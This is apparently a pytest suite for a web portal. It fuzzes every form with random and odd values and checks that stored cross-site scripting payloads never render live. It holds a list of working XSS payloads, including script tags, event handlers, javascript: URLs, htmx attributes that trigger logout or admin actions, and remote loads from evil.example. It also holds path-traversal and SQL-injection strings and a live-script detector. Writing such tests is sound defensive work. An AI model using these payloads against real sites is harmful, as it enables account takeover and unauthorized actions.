"""Every form, found by visiting every page as each role (tests/forms_found.py), is attacked:

- fuzzing: Hypothesis sends random text, unicode, huge and missing values, numbers out of range
  and unknown choices, as a page and as htmx; the portal never answers 500;
- stored XSS: at least 30 payloads (script tags, event handlers, `javascript:` URLs, `hx-*`
  attributes, SVG, template injection) go into every free-text field of every form; afterwards no
  page or fragment any role can open holds a live one.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.factories import one_of_everything
from tests.forms_found import Form, forms_a_role_sees, get_pages, sign_in_as

ROLES = ["admin", "programme_manager", "trust_member", "agency_lead", "partner", "participation_lead"]

TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=80)
ODD_TEXT = st.sampled_from(
    [
        "",
        " ",
        "-1",
        "0",
        "2147483648",
        "99999999999999999999",
        "1e309",
        "NaN",
        "2026-02-30",
        "31/12/2026",
        "0000-00-00",
        "\u202e\u0000"[:1],
        "😀" * 50,
        "x" * 20_000,
        "' OR 1=1 --",
        "%00",
        "../../etc/passwd",
    ]
)


def value_for(form_field, data):
    options = form_field.options
    if form_field.kind in ("select", "radio", "checkbox") and options and data.draw(st.booleans()):
        return data.draw(st.sampled_from(options))
    if form_field.kind == "hidden" and data.draw(st.booleans()):
        return form_field.value
    return data.draw(st.one_of(TEXT, ODD_TEXT))


@pytest.mark.parametrize("role", ROLES)
def test_no_form_answers_500_whatever_it_is_sent(app, client, role):
    ids = one_of_everything()
    sign_in_as(client, role, ids)
    forms = forms_a_role_sees(app, client, ids)
    assert forms, f"{role} sees no form at all"
    failures: list[str] = []

    @settings(
        max_examples=max(60, 6 * len(forms)),
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(data=st.data())
    def fuzz(data):
        form: Form = data.draw(st.sampled_from(forms))
        values = {}
        for name, form_field in form.fields.items():
            if data.draw(st.integers(0, 5)) == 0:
                continue  # missing
            values[name] = value_for(form_field, data)
        headers = data.draw(st.sampled_from([{}, {"HX-Request": "true"}]))
        status = client.post(form.action, data=values, headers=headers).status_code
        if status >= 500:
            failures.append(f"{form.action} answered {status} to {values!r}"[:600])

    fuzz()
    assert failures == []


PAYLOADS = [
    "<script>alert('xss01')</script>",
    "<SCRIPT SRC=//evil.example/xss02.js></SCRIPT>",
    '"><script>alert("xss03")</script>',
    "<img src=x onerror=alert('xss04')>",
    '<img src="x" onerror="alert(`xss05`)">',
    "<svg onload=alert('xss06')>",
    "<svg><script>alert('xss07')</script></svg>",
    "<body onload=alert('xss08')>",
    "<iframe src=javascript:alert('xss09')></iframe>",
    "<a href=\"javascript:alert('xss10')\">click</a>",
    "<a href=' javascript:alert(1)//xss11'>x</a>",
    "<a href=\"JaVaScRiPt:alert('xss12')\">x</a>",
    '<div hx-get="/logout" hx-trigger="load">xss13</div>',
    '<div data-hx-post="/admin/users/1/deactivate" data-hx-trigger="load">xss14</div>',
    '<button hx-delete="/" hx-trigger="load">xss15</button>',
    "<form action=\"javascript:alert('xss16')\"><button>x</button></form>",
    "<input autofocus onfocus=alert('xss17')>",
    "<details open ontoggle=alert('xss18')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss19')>",
    "<object data=\"javascript:alert('xss20')\"></object>",
    "<embed src=\"javascript:alert('xss21')\">",
    "<style>@import 'http://evil.example/xss22.css';</style>",
    "<link rel=stylesheet href=//evil.example/xss23.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(\"xss24\")'>",
    "{{7*191}} xss25",
    "{% raw %}{{ config }}{% endraw %} xss26",
    "${7*191} xss27",
    "<p style=\"background:url(javascript:alert('xss28'))\">x</p>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzMjknKTwvc2NyaXB0Pg==">xss29</a>',
    "[xss30](javascript:alert('xss30'))",
    "<scr<script>ipt>alert('xss31')</scr</script>ipt>",
    "&lt;script&gt;alert('xss32')&lt;/script&gt;",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss33')>\">",
]
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href"}
UNSAFE_ELEMENTS = {"iframe", "object", "embed", "base", "meta", "link", "style", "math"}


class LiveScriptFinder(HTMLParser):
    """What a browser would run or load: scripts without our src, handlers, script URLs, htmx
    attributes or elements that came from a payload."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.in_head = False

    def handle_starttag(self, tag, attrs):
        a = {k.lower(): (v or "") for k, v in attrs}
        if tag == "head":
            self.in_head = True
        if tag == "script" and not a.get("src", "").startswith("/static/"):
            self.live.append(f"<script {a}>")
        if tag in UNSAFE_ELEMENTS and not (self.in_head and tag in ("meta", "link")):
            self.live.append(f"<{tag} {a}>")
        for name, value in a.items():
            squeezed = "".join(value.split()).lower()
            if name.startswith("on"):
                self.live.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and squeezed.startswith(("javascript:", "data:text/html")):
                self.live.append(f"<{tag} {name}={value!r}>")
            if (name.startswith(("hx-", "data-hx-")) or name == "style") and "xss" in value.lower() + tag:
                self.live.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        if tag == "head":
            self.in_head = False


def live_payloads(html: str) -> list[str]:
    finder = LiveScriptFinder()
    finder.feed(html)
    found = finder.live
    if "1337 xss25" in html or "1337 xss27" in html:
        found.append("a template expression in a payload was evaluated")
    return found


def _date(day: int, month: int, year: int) -> list[str]:
    return [str(day), str(month), str(year)]  # a GOV.UK date input: three boxes, one name


# Valid values for the text boxes that are not free text (dates, numbers, times, addresses, slugs):
# with a payload in them a form is refused and its real free-text fields would never be stored.
# A value may depend on the post's number, where it must be unique.
STRUCTURED = {
    "start_date": lambda n: _date(1, 4, 2026),
    "due_date": lambda n: _date(31, 3, 2027),
    "end_date": lambda n: _date(31, 3, 2027),
    "dated": lambda n: _date(2, 11, 2026),
    "due_on": lambda n: _date(31, 7, 2026),
    "covers_from": lambda n: _date(1, 4, 2026),
    "covers_to": lambda n: _date(30, 6, 2026),
    "opens_on": lambda n: _date(1, 7, 2026),
    "closes_on": lambda n: _date(31, 8, 2026),
    "fieldwork_starts_on": lambda n: _date(15, 3, 2027),
    "day": lambda n: _date(1 + n % 28, 3, 2027),
    "starts_at": lambda n: "09:00",
    "ends_at": lambda n: "10:00",
    "weight": lambda n: "1",
    "percent_complete": lambda n: "50",
    "number": lambda n: str(40 + n),
    "email": lambda n: f"payload.writer.{n}@example.org",
    "slug": lambda n: f"payload-document-{n}",
    "code": lambda n: "123456",
    "link_path": lambda n: "/thresholds/",
    "action_reference": lambda n: "",
    "link-reference": lambda n: "",
}
# Free text with a shape: the payload goes in, made to fit it.
SHAPED = {"synonyms": lambda payload: f"{payload}, the same in other words"}


def _count_keys() -> set[str]:
    from app.returns.questions import COUNT, TEMPLATES

    return {q.key for questions in TEMPLATES.values() for q in questions if q.kind == COUNT}


def _valid_values(form: Form, n: int, counts: set[str]) -> dict:
    """What a person would send who changed nothing but chose where a choice is asked and filled
    the structured boxes validly."""
    values = form.defaults()
    for f in form.fields.values():  # a choice, where the form offers "Choose ..." first
        if f.kind == "select" and not values.get(f.name) and any(f.options):
            values[f.name] = next(option for option in f.options if option)
    for name in form.free_text:
        if name in STRUCTURED:
            values[name] = STRUCTURED[name](n)
        elif name in counts:
            values[name] = "0"
    return values


def store_every_payload(app, ids: dict) -> dict:
    """Every role writes every payload into every free-text field it can reach, as a page and as
    htmx; the other text boxes get valid values (STRUCTURED; a return's counts, 0), so the forms
    that check them store the words too. Returns the user who wrote as each role
    (tests/browser/test_stored_xss.py reads as them)."""
    counts = _count_keys()
    writers = {}
    for role in ROLES:
        writer = app.test_client()
        writers[role] = sign_in_as(writer, role, ids)
        for form in forms_a_role_sees(app, writer, ids):
            words = [name for name in form.free_text if name not in STRUCTURED and name not in counts]
            for n in range(len(PAYLOADS) if words else 0):
                values = _valid_values(form, n, counts)
                for i, name in enumerate(words):
                    values[name] = SHAPED.get(name, str)(PAYLOADS[(n + i) % len(PAYLOADS)])
                writer.post(form.action, data=values, headers={"HX-Request": "true"} if n % 2 else {})
    return writers


def test_no_stored_payload_is_live_on_any_page_or_fragment(app, client):
    ids = one_of_everything()
    store_every_payload(app, ids)

    live: list[str] = []
    shown: set[str] = set()
    for role in ROLES:
        reader = app.test_client()
        sign_in_as(reader, role, ids)
        for path in get_pages(app, ids):
            for headers in ({}, {"HX-Request": "true"}):
                response = reader.get(path, headers=headers)
                if response.mimetype != "text/html":
                    continue
                html = response.get_data(as_text=True)
                shown |= set(re.findall(r"xss\d\d", html))
                live += [f"{role} {path}: {found}" for found in live_payloads(html)]
    assert live == []
    # Not vacuous: most payloads were stored and shown back, as text.
    assert len(shown) >= 25, sorted(shown)
    assert _tables_without_payloads() == [], "forms that check dates, numbers or choices stored words too"


def _tables_without_payloads() -> list[str]:
    from sqlalchemy import func, select

    from app.actions.models import Action, Project
    from app.briefings.models import Briefing
    from app.extensions import db
    from app.inspection.models import Activity, ChecklistItem, EvidenceItem
    from app.participation.models import Consultation, Response
    from app.returns.models import ReturnPeriod

    columns = [
        Action.title,
        Action.description,
        Project.aim,
        Briefing.title,
        Activity.title,
        ChecklistItem.title,
        EvidenceItem.title,
        Consultation.question,
        Response.we_did,
        ReturnPeriod.name,
    ]
    return [
        str(column)
        for column in columns
        if not db.session.scalar(select(func.count()).where(column.contains("xss")))
    ]
